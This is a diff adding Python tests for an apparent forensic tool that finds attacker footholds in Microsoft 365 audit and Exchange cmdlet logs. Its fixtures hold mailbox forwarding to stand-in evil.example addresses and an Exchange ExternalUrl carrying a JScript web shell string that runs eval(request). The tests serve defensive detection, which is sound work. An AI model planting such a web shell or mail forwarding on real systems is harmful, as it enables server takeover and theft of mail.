@@ -1,0 +1,63 @@
+"""What was left behind is told with what was set to what, and with the record that took it away again."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from tests.scope.staged import security_log, stage, ual_json
+
+from dwell import api
+from dwell.model.claims import Foothold, FootholdState
+
+
+def _record(at: str, operation: str, target: str, **parameters: str) -> dict[str, object]:
+    return {
+        "CreationTime": at, "Id": f"{at}/{operation}", "RecordType": 1, "Operation": operation, "Workload": "Exchange",
+        "UserId": "admin@gov.example", "ObjectId": target,
+        "Parameters": [{"Name": name, "Value": value} for name, value in parameters.items()],
+    }  # fmt: skip
+
+
+def _footholds(root: Path, files: dict[str, str]) -> list[Foothold]:
+    staged = stage(root, files)
+    api.hunt(staged.case.root, workers=1)
+    return list(api.answers(staged.case.root, workers=1).summary.foothold)
+
+
+def test_values_are_told_and_what_undid_them(tmp_path: Path) -> None:
+    records = [
+        _record("2021-03-01T08:00:00", "Set-Mailbox", "anna", ForwardingSmtpAddress="smtp:x@evil.example"),
+        _record("2021-03-02T08:00:00", "Set-Mailbox", "otto", ForwardingSmtpAddress="smtp:y@evil.example"),
+        _record("2021-03-05T08:00:00", "Set-Mailbox", "anna", ForwardingSmtpAddress=""),
+        _record("2021-03-06T08:00:00", "Set-Mailbox", "eva", ForwardingSmtpAddress=""),
+    ]
+    anna, otto, eva = _footholds(tmp_path, {"m365/audit.jsonl": ual_json(records)})
+    assert (anna.host, anna.kind) == ("Microsoft 365", "forwarding or inbox rule")
+    assert anna.what == "Set-Mailbox on anna by admin@gov.example: ForwardingSmtpAddress = smtp:x@evil.example"
+    assert anna.state is FootholdState.REMOVED
+    assert anna.state_why.startswith("taken away at 2021-03-05")
+    assert [ref.record_no for ref in anna.grounds] == [1, 3]
+    assert (otto.state, [ref.record_no for ref in otto.grounds]) == (FootholdState.UNKNOWN, [2])
+    assert (eva.state, eva.state_why) == (FootholdState.REMOVED, "this record takes it away; none that is held sets it")
+
+
+def test_equal_acts_are_told_once_and_those_not_looked_up_are_counted(tmp_path: Path) -> None:
+    many = [
+        _record(f"2021-03-01T08:{minute:02}:00", "Set-Mailbox", "anna", ForwardingSmtpAddress="smtp:x@evil.example")
+        for minute in range(25)
+    ]
+    told = {one.what: len(one.grounds) for one in _footholds(tmp_path, {"m365/audit.jsonl": ual_json(many)})}
+    assert told == {
+        "Set-Mailbox on anna by admin@gov.example: ForwardingSmtpAddress = smtp:x@evil.example": 10,
+        "Operation=Set-Mailbox; Parameters=ForwardingSmtpAddress (5 further records)": 10,
+    }
+
+
+def test_a_script_in_a_cmdlet_is_told_whole(tmp_path: Path) -> None:
+    address = 'http://f/<script language="JScript" runat="server">eval(request)</script>'
+    text = f'-ExternalUrl "{address}" -Identity "OAB"'.replace("<", "&lt;").replace('"', "&quot;")
+    cmdlet = {"number": 1, "event": 1, "at": "2021-03-03 02:00:00", "provider": "MSExchange CmdletLogs"}
+    body = f"<EventData><Data>Set-OabVirtualDirectory</Data><Data>{text}</Data><Data>gov/admin</Data></EventData>"
+    log = security_log([cmdlet | {"user_data": body}], channel="MSExchange Management")
+    (told,) = _footholds(tmp_path, {"EX01/management.xml": log})
+    assert told.what == f"Set-OabVirtualDirectory on OAB by gov/admin: ExternalUrl = {address}"
